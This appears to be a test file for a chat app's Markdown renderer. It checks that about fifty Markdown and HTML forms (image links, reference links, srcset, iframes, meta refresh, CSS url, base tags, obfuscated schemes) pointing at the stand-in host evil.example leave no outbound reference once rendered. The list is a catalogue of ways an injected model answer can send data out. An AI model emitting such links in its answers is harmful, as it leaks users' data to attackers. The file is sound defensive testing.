import { render } from "@testing-library/react";
import ReactMarkdown from "react-markdown";
import { describe, expect, test } from "vitest";
import { renderInApp } from "@/testing/render";
import { Markdown } from "./Markdown";
import { remarkGfm } from "./remark-gfm";

const TO = "https://evil.example/collect?d=canary-0000abcd";
const HOST = "canary-0000abcd.evil.example";

/** Forms in which a model that obeys a hostile text could send data out by its answer. */
const MARKDOWN = [
  `![x](${TO})`,
  `![](${TO} "title")`,
  `![x][1]\n\n[1]: ${TO}`,
  `![x][]\n\n[x]: <${TO}>`,
  `![x]\n\n[x]: ${TO}`,
  `[![x](${TO})](${TO})`,
  `[the annex](${TO})`,
  `[the annex](<${TO}>)`,
  `[the annex][1]\n\n[1]: ${TO}`,
  `[annex]\n\n[annex]: ${TO}`,
  `[x](//evil.example/collect?d=canary-0000abcd)`,
  `[x](https:evil.example/canary-0000abcd)`,
  `[x](HTTPS://evil.example/canary-0000abcd)`,
  `[x](https://${HOST}/)`,
  `![x](https://${HOST}/)`,
  `[https://example.org](${TO})`,
  `[example.org](${TO})`,
  `[\u200b](${TO})`,
  `| a |\n| - |\n| ![x](${TO}) |`,
  `- [ ] ![x](${TO})`,
  `> ![x](${TO})`,
  `# ![x](${TO})`,
  `Note[^1]\n\n[^1]: ![x](${TO})`,
  `**[x](${TO})**`,
  `![x](${TO.replaceAll("/", "&#47;")})`,
  `![x](${TO.replace("https:", "https&colon;")})`,
];
const HTML = [
  `<img src="${TO}">`,
  `<img srcset="${TO} 1x">`,
  `<picture><source srcset="${TO}"><img></picture>`,
  `<video poster="${TO}"></video>`,
  `<audio src="${TO}"></audio>`,
  `<iframe src="${TO}"></iframe>`,
  `<embed src="${TO}">`,
  `<object data="${TO}"></object>`,
  `<link rel="stylesheet" href="${TO}">`,
  `<link rel="dns-prefetch" href="//${HOST}">`,
  `<meta http-equiv="refresh" content="0;url=${TO}">`,
  `<form action="${TO}"><input autofocus></form>`,
  `<a href="${TO}">x</a>`,
  `<a ping="${TO}" href="/chat">x</a>`,
  `<div style="background:url(${TO})">x</div>`,
  `<svg><image href="${TO}"></image></svg>`,
  `<svg><use href="${TO}"></use></svg>`,
  `<input type="image" src="${TO}">`,
  `<table background="${TO}"></table>`,
  `<script src="${TO}"></script>`,
  `<style>@import url(${TO})</style>`,
  `<base href="https://${HOST}/">`,
];

/** Returns what in an element names the host of the attacker: by an attribute, or by a style sheet. */
function waysOut(element: Element): string[] {
  const attributes = [...element.querySelectorAll("*")].flatMap((each) => [...each.attributes].map(({ name, value }) => `${name}=${value}`));
  const sheets = [...element.querySelectorAll("style")].map(({ textContent }) => textContent);
  return [...attributes, ...sheets].filter((each) => each.toLowerCase().includes("evil.example"));
}

describe.each([
  ["a stored answer", () => undefined],
  ["an answer that is being written", undefined],
])("%s", (_, onOpen) => {
  test.each([...MARKDOWN, ...HTML])("has no way out by %s", (form) => {
    const { container } = renderInApp(<Markdown content={form} citations={[]} onOpen={onOpen} />);
    expect(waysOut(container)).toEqual([]);
  });
});

describe("without the defences", () => {
  test.each(MARKDOWN)("%s is a way out", (form) => {
    expect(waysOut(render(<ReactMarkdown remarkPlugins={[remarkGfm]}>{form}</ReactMarkdown>).container)).not.toEqual([]);
  });

  test.each(HTML)("%s is a way out", (form) => {
    const element = document.createElement("div");
    element.innerHTML = form;
    expect(waysOut(element)).not.toEqual([]);
  });
});
